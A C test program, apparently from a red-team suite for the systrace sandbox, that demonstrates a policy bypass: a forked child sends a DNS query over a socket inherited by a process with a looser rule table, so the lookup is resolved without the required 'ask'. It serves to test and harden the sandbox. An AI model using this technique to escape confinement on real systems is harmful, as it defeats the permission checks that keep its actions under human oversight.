/* dns_owner.c: a lookup a table asks about, resolved unasked because another process of
 * another table holds the same socket (issue 11, red team 39; class 7, host names).
 *
 * An `ask` rule on a host asks at the lookup, about "the process that sent the query", found
 * by its socket: the first traced process holding it.  And the rule then asked was that
 * process's table's -- not the table that asked.  A socket two processes hold (inherited)
 * is held first by the older one.  So the program makes a UDP socket and connects it to the
 * name server (redirected to systrace's resolver, under its own table), forks, and execs
 * into a program with a table of its own that says nothing about names (here sleep), the
 * socket kept open; the child -- still the program, under the table that asks -- sends its
 * query on the shared socket: the "owner" was the sleep, whose table has no rule on the
 * name, and the query was resolved, nobody asked.
 *
 *   dns_owner NAME SLEEP   as above; the child asks for NAME once SLEEP runs in the parent:
 *                          ESCAPED when it is answered, BLOCKED when not
 */
#include "attack.h"
#include <arpa/inet.h>
#include <netinet/in.h>

static int nameserver(struct sockaddr_in *sa) {
    FILE *f = fopen("/etc/resolv.conf", "r");
    char line[256], addr[64];
    int found = -1;
    if (!f)
        return -1;
    while (fgets(line, sizeof line, f))
        if (sscanf(line, "nameserver %63s", addr) == 1) {
            memset(sa, 0, sizeof *sa);
            sa->sin_family = AF_INET;
            sa->sin_port = htons(53);
            found = inet_pton(AF_INET, addr, &sa->sin_addr) == 1 ? 0 : -1;
            break;
        }
    fclose(f);
    return found;
}

int main(int argc, char **argv) {
    struct sockaddr_in server;
    if (argc != 3)
        usage("dns_owner NAME SLEEP");
    if (nameserver(&server) < 0)
        skipped("no nameserver in /etc/resolv.conf");
    int s = socket(AF_INET, SOCK_DGRAM, 0); /* inherited across the exec */
    if (connect(s, (struct sockaddr *)&server, sizeof server) != 0)
        blocked("connect: %s", ename(errno));
    pid_t parent = getpid();
    pid_t pid = fork();
    if (pid > 0) {
        execl(argv[2], argv[2], "4", (char *)NULL);
        _exit(1);
    }
    /* the child: wait until the parent runs SLEEP */
    char link[64], exe[4096];
    snprintf(link, sizeof link, "/proc/%d/exe", (int)parent);
    for (int i = 0; i < 400; i++) {
        ssize_t n = readlink(link, exe, sizeof exe - 1);
        if (n > 0) {
            exe[n] = 0;
            if (strcmp(exe, argv[2]) == 0)
                break;
        }
        usleep(10000);
    }
    note("the parent runs %s", exe);
    unsigned char q[512], r[512];
    unsigned char head[12] = {0x39, 0x39, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0};
    size_t n = sizeof head;
    memcpy(q, head, n);
    for (const char *p = argv[1]; *p;) {
        const char *dot = strchr(p, '.');
        size_t len = dot ? (size_t)(dot - p) : strlen(p);
        q[n++] = (unsigned char)len;
        memcpy(q + n, p, len);
        n += len;
        p += len + (dot ? 1 : 0);
    }
    memcpy(q + n, "\0\0\1\0\1", 5);
    n += 5;
    struct timeval tv = {10, 0};
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    ssize_t got = send(s, q, n, 0) == (ssize_t)n ? recv(s, r, sizeof r, 0) : -1;
    if (got < 12)
        blocked("%s: no answer (%s)", argv[1], got < 0 ? ename(errno) : "short");
    int rcode = r[3] & 0x0f, answers = (r[6] << 8) | r[7];
    if (rcode == 0 && answers > 0) {
        char out[64];
        inet_ntop(AF_INET, r + got - 4, out, sizeof out);
        escaped("%s was answered on the shared socket, nobody asked: %s", argv[1], out);
    }
    blocked("%s: rcode %d, %d answers", argv[1], rcode, answers);
}
